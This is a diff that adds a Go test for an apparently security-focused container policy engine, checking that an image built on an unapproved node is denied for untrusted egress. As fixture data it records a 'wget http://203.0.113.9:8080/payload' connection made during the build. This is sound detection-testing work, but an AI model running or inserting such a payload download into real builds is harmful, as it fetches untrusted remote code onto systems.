@@ -1,0 +1,77 @@
+package engine_test
+
+import (
+	"net/http"
+	"net/netip"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+
+	"buildguard.dev/buildguard/engine"
+	"buildguard.dev/buildguard/evidence"
+	"buildguard.dev/buildguard/internal/testclock"
+	"buildguard.dev/buildguard/internal/testregistry"
+	"buildguard.dev/buildguard/policy"
+	"buildguard.dev/buildguard/registry"
+)
+
+// TestNodeEvidence correlates, in a real SQLite store, a build a node
+// reported with the image pushed from it (the Docker image ID is the
+// config digest) and the connections of that build.
+func TestNodeEvidence(t *testing.T) {
+	reg := testregistry.New(t)
+	img := testregistry.Build(t, testregistry.Image{Created: now.Add(-2 * time.Hour)})
+	reg.Push(t, "acme/shop:1", img)
+	cfg, err := img.ConfigName()
+	if err != nil {
+		t.Fatal(err)
+	}
+	store, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "evidence.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer store.Close()
+	built := now.Add(-90 * time.Minute)
+	_, _, err = store.AddReport(t.Context(), evidence.Report{Node: "worker-3", Sensor: "ebpf",
+		Builds: []evidence.Build{{Source: "agent", EventID: "b1", Node: "worker-3", Tool: "docker", ImageID: cfg.String(),
+			Tags: []string{reg.Host + "/acme/shop:1"}, Started: built, Finished: built.Add(time.Minute)}},
+		Connections: []evidence.Connection{
+			{Source: "agent", EventID: "c1", Node: "worker-3", Time: built.Add(20 * time.Second), Process: "wget", PID: 4242,
+				Cmdline: "wget http://203.0.113.9:8080/payload", DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 8080},
+			{Source: "agent", EventID: "c2", Node: "worker-3", Time: built.Add(30 * time.Second), Process: "apt-get", PID: 4243,
+				DestIP: netip.MustParseAddr("10.1.2.3"), DestPort: 80},
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := policy.Compile(policy.Spec{
+		Registries:   policy.Registries{Allow: []string{reg.Host + "/acme/*"}, Insecure: []string{"127.0.0.1:*"}},
+		NodeEvidence: &policy.NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}, TrustedDestinations: []string{"10.0.0.0/8"}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	clock := testclock.New(now)
+	e := &engine.Engine{
+		Policies: engine.PolicyFunc(func() *policy.Policy { return p }),
+		Resolver: registry.New(registry.WithTransport(http.DefaultTransport), registry.WithClock(clock.Now)),
+		Evidence: store,
+		Now:      clock.Now,
+	}
+	v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod",
+		Spec: &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: reg.Host + "/acme/shop:1"}}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range v.Images[0].Findings {
+		got = append(got, string(f.Rule)+": "+f.Message)
+	}
+	want := []string{"host-built: node worker-3 built", "untrusted-egress: while node worker-3 built this image, wget (pid 4242) connected to untrusted 203.0.113.9:8080"}
+	if v.Allowed || len(got) != 2 || !strings.HasPrefix(got[0], want[0]) || !strings.HasPrefix(got[1], want[1]) {
+		t.Errorf("Evaluate findings = %q, want %q (and denied)", got, want)
+	}
+}
